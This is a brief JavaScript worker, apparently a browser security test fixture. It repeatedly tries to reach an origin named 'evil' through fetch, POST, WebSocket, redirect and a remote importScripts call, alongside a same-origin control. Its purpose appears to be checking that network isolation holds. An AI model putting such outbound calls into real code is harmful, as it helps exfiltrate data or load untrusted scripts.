// A worker of any kind that tries to reach the origin after the question mark, again and again, and
// its own as a control.
const evil = location.search.slice(1);
const attempt = (go) => {
  try {
    go()?.catch?.(() => {});
  } catch {
    // What is refused at once was refused.
  }
};
const reach = () => {
  attempt(() => fetch('/worker-control'));
  attempt(() => fetch(`${evil}/worker-fetch`, { mode: 'no-cors' }));
  attempt(() => fetch(`${evil}/worker-post`, { mode: 'no-cors', method: 'POST', body: 'x' }));
  attempt(() => new WebSocket(`${evil.replace('http', 'ws')}/worker-socket`));
  attempt(() => fetch(`/to?${evil}/worker-redirected`, { mode: 'no-cors' }));
};
attempt(() => importScripts(`${evil}/worker-import.js`));
reach();
setInterval(reach, 250);
